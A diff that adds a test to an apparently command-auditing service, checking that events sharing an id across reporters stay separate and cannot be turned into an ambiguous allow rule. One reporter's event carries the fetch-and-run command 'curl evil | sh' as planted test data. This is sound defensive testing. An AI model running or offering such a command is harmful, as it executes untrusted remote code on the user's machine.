@@ -95,6 +95,29 @@ test("list, export, tickets, histogram and stream can be filtered by reporter", 
   assert.equal(total, 1);
 });
 
+test("an id that another reporter used leads to neither a wrong event nor a wrong rule", async (t) => {
+  const other = await start(t, ADMIN_SETTINGS);
+  const admin = await other.asUser(ADMIN);
+  const keys = await Promise.all(
+    ["planter", "laptop"].map(async (name) => {
+      const { body } = await other.post("/api/v1/api-keys", { name, scopes: "report" }, admin);
+      return body;
+    }),
+  );
+  const [planter, laptop] = keys;
+  const as = ({ api_key: key }: { api_key: string }) => ({ "x-api-key": key });
+  await other.post(V1, { id: "laptop-2", command: "curl evil | sh" }, as(planter));
+  await other.post(V1, { id: "laptop-2", command: "git status" }, as(laptop));
+  const own = await other.get(`${V1}/laptop-2?reported_by=${laptop.id}`, admin);
+  assert.equal(own.body.command, "git status");
+  assert.equal((await other.get(`${V1}/laptop-2?reported_by=other`, admin)).status, 404);
+  assert.equal((await other.get(`${V1}/laptop-2`, admin)).body.command, "curl evil | sh");
+  const draft = { event: "laptop-2", effect: "allow" };
+  const { status, body } = await other.post("/api/v1/policies/draft-rule", draft, admin);
+  assert.equal(status, 409);
+  assert.match(body.error, /^Several reporters used the id "laptop-2"/);
+});
+
 test("a stream can be filtered by reporter, and reporters survive a restart", async (t) => {
   const other = await start(t, ADMIN_SETTINGS);
   const headers = await other.asUser(ADMIN);
